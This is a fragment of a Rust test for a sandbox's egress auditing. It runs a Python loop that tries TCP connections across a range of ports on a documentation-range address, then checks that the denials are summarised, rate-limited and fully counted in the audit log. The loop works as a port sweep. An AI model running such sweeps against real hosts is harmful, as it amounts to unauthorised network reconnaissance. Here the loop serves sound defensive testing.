    let started = std::time::Instant::now();
    let out = net.exec_audited(
        &format!(
            "python3 -c \"
import socket
for port in range(2000, 2000 + {N}):
    s = socket.socket()
    try:
        s.connect(('198.51.100.11', port))
    except OSError:
        pass
    s.close()
\""
        ),
        &log,
    );
    // The session lived at most this long: the budget (500 at once, then 50
    // a second) allowed at most this many records.
    let allowed_records = 500 + 50 * started.elapsed().as_secs_f64().ceil() as usize + 1;
    let t = text(&out);
    let notes: Vec<&str> = t
        .lines()
        .filter(|l| l.starts_with("hands: egress denied"))
        .collect();
    assert_eq!(notes.len(), 17, "{t}");
    assert!(
        notes[16].ends_with(&format!("and {} more denials", N - 16)),
        "{t}"
    );
    let records = egress_records(&log);
    let itemised = records.iter().filter(|r| r["decision"] == "denied").count();
    let counted: u64 = records
        .iter()
        .filter(|r| r["decision"] == "not itemised")
        .map(|r| r["denied"].as_u64().unwrap())
        .sum();
    assert!(
        itemised <= allowed_records,
        "{itemised} of {N} denials itemised, over the budget's {allowed_records}"
    );
    assert!(counted > 0, "nothing counted");
    assert_eq!(itemised as u64 + counted, N as u64, "{records:?}");
    assert_chain_holds(&log);
}
